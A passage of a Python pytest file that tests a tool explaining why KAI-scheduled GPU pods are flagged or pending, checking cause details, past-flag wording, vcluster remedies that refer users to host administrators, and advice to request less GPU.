    assert answer.is_fine is (code in ("running", "succeeded", "outside-kai"))
    assert all(answer.cause.remedies[0].text.startswith(act) for act in acts)


def test_the_figures_of_a_flag_are_details_and_its_unknown_end_is_said() -> None:
    details = {"reason": "over-share", "usedBytes": 10.0 * 2**30, "allowedBytes": 8.0 * 2**30}
    assert all(explain(row[0]).cause.details == details for row in FLAGS[:4])
    told_in_the_past = [row[0] for row in FLAGS if "was flagged" in row[2]]
    assert len(told_in_the_past) == len(FlagReason) + 1
    for evidence in told_in_the_past:
        assert explain(evidence).cause.sentence.endswith(
            "whether it still is cannot be seen without its node's agent"
        )
    assert [len(explain(row[0]).findings) for row in FLAGS[4:8]] == [1] * 4
    assert explain(of_pod({}, group_events=_not_ready())).cause.details == {"needed": 4, "exist": 2}
    assert _acts(UNKNOWN[0][0])[-1] == "Administrator: start KAI's binder again."


@pytest.mark.parametrize("evidence", [row[0] for row in IN_VCLUSTER])
def test_in_a_vcluster_the_hosts_administrators_are_asked(evidence: PodEvidence) -> None:
    remedies = explain(evidence).cause.remedies
    assert remedies[-1].command == "kaishare why -n HOST_NAMESPACE train-0-x-team-x-VCLUSTER"
    assert not any("queues.scheduling" in remedy.command for remedy in remedies)


def test_less_is_asked_for_only_where_a_part_of_a_gpu_is_free() -> None:
    evidence, _, _ = ROOM[0]
    assert find_cause(evidence).details == {"largestFreeGpu": 0.7, "freeGpus": 0.7}
    shrinks = [any("request less" in act for act in _acts(row[0])) for row in ROOM]
    assert shrinks == [True, False, False, *[True] * 5]
